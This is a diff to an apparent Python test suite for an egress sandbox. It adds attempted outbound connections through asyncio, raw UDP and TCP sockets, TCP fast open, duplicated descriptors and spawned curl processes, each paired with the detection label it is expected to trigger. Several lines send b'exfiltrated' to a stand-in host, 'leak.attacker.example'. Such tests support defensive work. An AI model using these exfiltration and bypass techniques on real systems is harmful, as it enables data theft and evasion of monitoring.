@@ -55,6 +55,26 @@ async def _asyncio_lookup() -> None:
     await asyncio.open_connection("api.real-vendor.example", 443)
 
 
+async def _asyncio_datagram() -> None:
+    loop = asyncio.get_running_loop()
+    transport, _ = await loop.create_datagram_endpoint(
+        asyncio.DatagramProtocol, remote_addr=(FAR, 53)
+    )
+    transport.close()
+
+
+async def _asyncio_sock_connect() -> None:
+    loop = asyncio.get_running_loop()
+    with socket.socket() as tcp:
+        tcp.setblocking(False)
+        await loop.sock_connect(tcp, (FAR, 80))
+
+
+async def _asyncio_subprocess() -> None:
+    process = await asyncio.create_subprocess_exec("curl", "-s", f"http://{FAR}/")
+    await process.wait()
+
+
 def _udp_sendto() -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
         udp.sendto(b"exfiltrated", (FAR, 53))
@@ -63,6 +83,30 @@ def _udp_sendto() -> None:
 def _udp_sendmsg() -> None:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
         udp.sendmsg([b"exfiltrated"], [], 0, (FAR, 53))
+
+
+def _udp_sendto_with_flags() -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.sendto(b"exfiltrated", 0, ("leak.attacker.example", 53))
+
+
+def _udp_connected_send() -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.connect((FAR, 514))
+        udp.send(b"exfiltrated")
+
+
+def _tcp_fast_open() -> None:
+    with socket.socket() as tcp:
+        tcp.sendto(b"GET / HTTP/1.1\r\n\r\n", socket.MSG_FASTOPEN, (FAR, 80))
+
+
+def _socket_from_a_descriptor() -> None:
+    with (
+        socket.socket() as original,
+        socket.fromfd(original.fileno(), socket.AF_INET, socket.SOCK_STREAM) as copy,
+    ):
+        copy.connect(("api.real-vendor.example", 443))
 
 
 def _udp_broadcast() -> None:
@@ -130,6 +174,10 @@ def _posix_spawn() -> None:
     os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0)
 
 
+def _posix_spawnp() -> None:
+    os.waitpid(os.posix_spawnp("true", ["true"], dict(os.environ)), 0)
+
+
 def _fork() -> None:
     if os.fork() == 0:
         os._exit(0)
@@ -161,6 +209,15 @@ ATTEMPTS: dict[str, tuple[Callable[[], object], str, str]] = {
     "asyncio lookup": (
         lambda: asyncio.run(_asyncio_lookup()),
         "egress.dns",
+        "api.real-vendor.example",
+    ),
+    "asyncio datagram endpoint": (lambda: asyncio.run(_asyncio_datagram()), "egress.udp", FAR),
+    "asyncio sock_connect": (lambda: asyncio.run(_asyncio_sock_connect()), "egress.tcp", FAR),
+    "asyncio subprocess": (lambda: asyncio.run(_asyncio_subprocess()), "egress.process", "curl"),
+    "TCP fast open": (_tcp_fast_open, "egress.tcp", FAR),
+    "a socket from a descriptor": (
+        _socket_from_a_descriptor,
+        "egress.tcp",
         "api.real-vendor.example",
     ),
     "_socket module": (_c_socket, "egress.tcp", FAR),
@@ -195,6 +252,12 @@ ATTEMPTS: dict[str, tuple[Callable[[], object], str, str]] = {
     "getnameinfo": (lambda: socket.getnameinfo((FAR, 443), 0), "egress.dns", FAR),
     "UDP sendto": (_udp_sendto, "egress.udp", FAR),
     "UDP sendmsg": (_udp_sendmsg, "egress.udp", FAR),
+    "UDP sendto with flags, by name": (
+        _udp_sendto_with_flags,
+        "egress.udp",
+        "leak.attacker.example",
+    ),
+    "UDP connect, then send": (_udp_connected_send, "egress.udp", FAR),
     "UDP broadcast": (_udp_broadcast, "egress.udp", "<broadcast>"),
     "curl": (_curl, "egress.process", "curl"),
     "a shell running curl": (_shell, "egress.process", "curl"),
@@ -202,6 +265,7 @@ ATTEMPTS: dict[str, tuple[Callable[[], object], str, str]] = {
     "os.popen": (lambda: os.popen("curl -s http://203.0.113.9/").read(), "egress.process", "curl"),
     "os.spawnv": (_spawn, "egress.process", "(fork)"),
     "os.posix_spawn": (_posix_spawn, "egress.process", "true"),
+    "os.posix_spawnp": (_posix_spawnp, "egress.process", "true"),
     "os.fork": (_fork, "egress.process", "(fork)"),
     "pty.spawn": (lambda: pty.spawn(["curl", f"http://{FAR}/"]), "egress.process", "curl"),
     "_posixsubprocess.fork_exec": (_fork_exec, "egress.process", "true"),
